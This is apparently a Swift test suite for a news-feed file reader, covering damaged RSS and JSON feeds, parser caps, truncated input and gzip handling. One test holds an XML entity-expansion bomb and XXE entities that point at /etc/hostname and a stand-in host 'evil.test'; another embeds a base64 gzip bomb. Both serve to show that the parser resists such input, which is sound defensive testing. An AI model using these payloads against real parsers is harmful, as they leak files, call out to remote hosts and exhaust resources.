import Articles
import Foundation
import Testing

@testable import ArticleFiles

@Suite struct DamagedFileTests {
  @Test(arguments: [
    ("", "is empty"),
    (" \n ", "is empty"),
    ("{\"a\": 1}", "is JSON but neither a JSON Feed nor ninjs"),
    ("{\"a\": 1", "is JSON with an error in it"),
    ("%PDF-1.4 x", "is not text"),
    ("a\u{0}\u{1}\u{2}\u{3}\u{0}\u{0}\u{4}", "is not text"),
    ("<?xml version='1.0'?><svg/>", "is XML but no feed: its root is “svg”"),
    ("<rss><channel><title>T</title></channel></rss>", "is a feed without articles"),
  ])
  func `a file without articles says why`(text: String, reason: String) {
    let contents = read(text)
    #expect(contents.articles == [])
    #expect(contents.problems == [FileProblem(file: "library/file", reason: reason)])
  }

  @Test(arguments: [
    "<rss><channel><item><title>One</title></item><item><title>Two",
    "<rss><channel><item><title>One</item><item><title>Two</title></item></channel></rss>",
    "<rss><channel><item><title>One</title><item><title>Two</title></channel>",
    "<rss><channel><item><title>One<link>http://a.test/</link></item><item><title>Two</title></item></rss>",
    "<rss><channel></b><item><title>One</title></channel></item><item><title>Two</title></item></rss>",
    "<rss><channel><item><title>One</title><description>a <b>b</description></item><item><title>Two</title></item></channel></rss>",
    "<rss><channel><item><title>One</title><link>/a?b&c</link></item><item><title>Two</title></item></channel></rss>",
    "<rss><channel><item><title>One</title><description>x&nbsp;y</description></item><item><title>Two</title></item></channel></rss>",
    "<rss><channel><item><title>One</title><description>a <p>b<pubDate>x</pubDate></item><item><title>Two</title></item></channel></rss>",
    "<rss><channel><item><title>One<dc:creator>Jo</dc:creator></item><item><title>Two</title></item></channel></rss>",
    "Warning: no cache in line 3\n<?xml version='1.0'?><rss><channel><item><title>One</title></item><item><title>Two</title></item>",
  ])
  func `an ill-formed feed gives what it has, and a warning`(text: String) {
    let contents = read(text)
    #expect(contents.articles.map(\.title) == ["One", "Two"])
    #expect(contents.problems.count == 1)
    #expect(contents.articles.allSatisfy { $0.warnings.count == 1 })
  }

  @Test func `a description without an end does not swallow the fields behind it`() {
    let article = item(
      "<title>T</title><description>One <p>two <b>three"
        + "<guid>http://coast.test/9</guid><pubDate>2004-01-01</pubDate><category>Sea</category>"
    )
    #expect(article?.body.plainText == "One\n\ntwo three")
    #expect(article?.url == "http://coast.test/9")
    #expect(article?.published == moment(2004))
    #expect(article?.tags == ["Sea"])
  }

  @Test(arguments: [
    (#"{"id":"1","title":"One"},{"id":"2","title":"Two"}],"#, ["One", "Two"]),
    (#"{"id":"1","title":"One"},{"id":"2","title":"Tw"#, ["One", "Tw"]),
    (#"{"id":"1","title":"One"},{"id":"2","ti"#, ["One", ""]),
    (#"{"id":"1","title":"One"},{"id":"2","title":"#, ["One", ""]),
    (#"{"id":"1","title":"One"} {"id":"2" "title":"Two"}]}"#, ["One", "Two"]),
    (
      "{\"id\":\"1\",\"title\":\"O\nne\"},{\"id\":\"2\",\"title\":\"T\twi\\'ce\"}]}",
      ["O ne", "T wi'ce"]
    ),
    (
      #"{"id":"1","title":"\ud83d One"},{"id":2,"tags":tru,"title":"Two"}]} -- served by cache"#,
      ["\u{FFFD} One", "Two"]
    ),
    (#"{"id":"1","url":,"title":"One"},{"id":"2","title":"\u00e9\ud83d\ude00"}]"#, ["One", "é😀"]),
  ])
  func `a JSON feed with errors gives what it has, and a warning`(items: String, titles: [String]) {
    let feed = read(#"{"version":"https://jsonfeed.org/version/1.1","items":[\#(items)"#)
    #expect(feed.articles.map(\.title) == titles)
    #expect(feed.problems.map(\.reason) == ["is JSON with an error in it"])
    #expect(feed.articles.allSatisfy { $0.warnings.count == 1 })
  }

  @Test func `declared entities are never expanded and nothing is fetched`() {
    let lol = (1...12).map {
      "<!ENTITY l\($0) \"\(String(repeating: "&l\($0 - 1);", count: 10))\">"
    }
    let text = """
      <!DOCTYPE rss [<!ENTITY l0 "lol">\(lol.joined())<!ENTITY x SYSTEM "file:///etc/hostname">\
      <!ENTITY % p SYSTEM "http://evil.test/x.dtd"> %p;]>\
      <rss><channel><item><title>a &l12; &x; b</title></item></channel></rss>
      """
    #expect(read(text).articles.map(\.title) == ["a &l12; &x; b"])
  }

  @Test(arguments: ["<div>", "<i>", "<ul><li>", "<blockquote>", "<table><tr><td>", "<a href=x>"])
  func `elements nested without end keep their text`(tag: String) {
    let html = "<p>start</p>" + String(repeating: tag, count: 200_000 / tag.utf8.count) + "deep"
    #expect(blocks(html).plainText.contains("deep"))
  }

  @Test(arguments: [255, 256, 257])
  func `elements nest as deep as the cap and no deeper`(depth: Int) {
    let xml = String(repeating: "<a>", count: depth) + "x" + String(repeating: "</a>", count: depth)
    let tree = MarkupParser.parse(Array(xml.utf8), dialect: .xml)
    #expect(tree.nodes.count { $0.kind == .element } == min(depth, 256))
    #expect((tree.fault == nil) == (depth <= 256))
    #expect(tree.string(of: 0) == "x")
  }

  @Test(arguments: [63, 64, 65])
  func `an element keeps as many attributes as the cap`(count: Int) {
    let names = (0..<count).map { "a\($0)='x'" }.joined(separator: " ")
    let tree = MarkupParser.parse(Array("<p \(names)>y</p>".utf8), dialect: .html)
    #expect(tree.attributes.count == min(count, 64))
  }

  @Test(arguments: [9_999, 10_000, 10_001])
  func `a feed gives as many articles as the cap`(count: Int) {
    var limits = Limits()
    limits.articleCount = 10
    let items = String(repeating: "<item><title>T</title></item>", count: count - 9_990)
    let contents = ArticleFileReader(limits: limits)
      .read(Array("<rss><channel>\(items)</channel></rss>".utf8), path: "f", modified: nil)
    #expect(contents.articles.count == min(count - 9_990, 10))
    #expect(contents.problems.isEmpty == (count <= 10_000))
  }

  @Test(arguments: [4095, 4096, 4097])
  func `a title is cut at its cap`(length: Int) {
    let title = item("<title>\(String(repeating: "x", count: length))</title>")?.title
    #expect(title?.utf8.count == min(length, 4096))
    #expect(title?.hasSuffix("…") == (length > 4096))
  }

  @Test(arguments: [
    "<", "<!", "<!--", "<!-->", "<![CDATA[", "<?", "</", "<a", "<a b", "<a b=", "<a b='", "&", "&#",
    "&#x", "<!DOCTYPE", "<!DOCTYPE a [", "<p/", "</p", "<script>", "<title>", "<a b=\"c",
  ])
  func `what breaks off anywhere is read to its end`(end: String) {
    for text in [end, "<rss><channel><item><title>x\(end)", "<html><body>x\(end)"] {
      let contents = read(text)
      #expect(contents.articles.count + contents.problems.count > 0)
    }
    #expect(blocks("kept " + end).plainText.hasPrefix("kept"))
  }

  @Test func `gzip is unpacked, one layer deep and within bounds`() throws {
    // Made by gzip -9 -n from: {"version":"https://jsonfeed.org/version/1","items":[{"id":"1","title":"T"}]}
    let small = try #require(Data(base64Encoded: Self.feed))
    let contents = ArticleFileReader().read(Array(small), path: "f.gz", modified: nil)
    #expect(contents.articles.map(\.title) == ["T"])
    let bomb = try #require(Data(base64Encoded: Self.bomb))
    var limits = Limits()
    limits.unpackedGrace = 1 << 10
    let held = Gzip.unpack(Array(bomb), limits: limits)
    #expect(held.bytes.count < 1 << 20)
    #expect(held.reason == "unpacks to more than a news file can be")
    #expect(Gzip.unpack(Array(small.dropLast(12)), limits: .standard).reason == "is damaged gzip")
  }

  private static let feed =
    "H4sIAAAAAAAC/6tWKkstKs7Mz1OyUsooKSkottLXzyrOz0tLTU3Ryy9K14dK6xsq6ShllqTmFitZRVcrZaYA1YOESjJLclKB7BCl2thaAOaGHORNAAAA"
  private static let bomb = """
    H4sIAAAAAAAC/+3BMQEAAADCoPVPbQsvoAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA\
    AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA\
    AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA\
    AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA\
    AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA\
    AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA\
    AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA\
    AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA\
    AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA\
    AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAB4GFCzVsYAYAkA
    """
}
